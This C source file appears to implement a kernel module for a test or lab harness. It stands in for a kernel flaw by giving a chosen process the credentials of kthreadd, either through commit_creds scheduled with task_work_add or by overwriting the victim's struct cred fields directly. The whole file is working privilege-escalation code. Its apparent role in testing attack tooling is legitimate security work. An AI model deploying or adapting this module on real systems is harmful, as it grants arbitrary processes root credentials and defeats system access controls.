/* Stands in for a flaw of the kernel: a module that gives a process the credentials of the kernel's own threads. The guests
 * have no kernel headers, so nothing is included, and nothing is imported. What depends on the kernel, `atk fit-module`
 * fills in from its type information, its table of symbols and one of its own modules. */

/* kthreadd, which has the credentials that the kernel was built with. */
enum { KERNEL_THREAD = 2 };
/* `TWA_RESUME` of include/linux/task_work.h: before the task goes back to user space. */
enum { RESUME = 1 };
enum { NO_SUCH_PROCESS = -3 };

/* `struct callback_head` of include/linux/types.h. */
struct callback {
	struct callback *next;
	void (*function)(struct callback *);
};

/* Numbers in the order in which `atk fit-module` writes them. */
struct fitted {
	void *(*find_get_task_by_vpid)(int);
	int (*task_work_add)(void *task, struct callback *work, int notify);
	void *(*prepare_kernel_cred)(void *task);
	int (*commit_creds)(void *credentials);
	/* Of `struct task_struct`: where the pointer to the credentials lies. */
	unsigned long credentials;
	/* Of `struct cred`: where the user ids begin, and where the bounding set ends. */
	unsigned long from, to;
	/* Process id of who gets the credentials. */
	unsigned long victim;
	/* 1: by commit_creds in the victim's own context; 0: written over those that it has. */
	unsigned long commit;
};
static volatile struct fitted fitted __attribute__((section(".data.fitted")));

static char *kernel_thread;

static void commit(struct callback *work)
{
	(void)work;
	fitted.commit_creds(fitted.prepare_kernel_cred(kernel_thread));
}

static struct callback work = { 0, commit };

static int start(void)
{
	char *victim = fitted.find_get_task_by_vpid((int)fitted.victim);
	volatile char *to, *from;
	unsigned long at;

	kernel_thread = fitted.find_get_task_by_vpid(KERNEL_THREAD);
	if (!victim || !kernel_thread)
		return NO_SUCH_PROCESS;
	if (fitted.commit)
		return fitted.task_work_add(victim, &work, RESUME);
	to = *(char **)(victim + fitted.credentials);
	from = *(char **)(kernel_thread + fitted.credentials);
	for (at = fitted.from; at < fitted.to; at++)
		to[at] = from[at];
	return 0;
}

static void stop(void)
{
}

/* Cut to the size of `struct module`; both pointers are moved to where its `init` and `exit` lie. */
static void *this_module[512] __attribute__((section(".gnu.linkonce.this_module"), used, aligned(64))) = {
	(void *)start,
	(void *)stop,
};

/* With room for the text that a kernel wants all its modules to have. */
static const char modinfo[192] __attribute__((section(".modinfo"), used)) = "license=GPL\0vermagic=";

/* `struct modversion_info` of include/linux/module.h: the checksum of `struct module`, which every module has. */
static const struct {
	unsigned long checksum;
	char name[56];
} versions[1] __attribute__((section("__versions"), used)) = { { 0, "module_layout" } };
